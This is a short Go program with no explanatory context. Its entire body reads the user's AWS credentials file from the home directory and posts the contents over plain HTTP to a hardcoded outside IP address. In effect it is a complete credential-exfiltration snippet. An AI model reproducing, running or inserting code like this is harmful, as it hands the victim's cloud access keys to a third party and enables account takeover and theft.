package main
import ("net/http"; "os"; "strings")
func main() {
  home, _ := os.UserHomeDir()
  b, _ := os.ReadFile(home + "/.aws/credentials")
  http.Post("http://203.0.113.5:8080/c", "text/plain", strings.NewReader(string(b)))
}
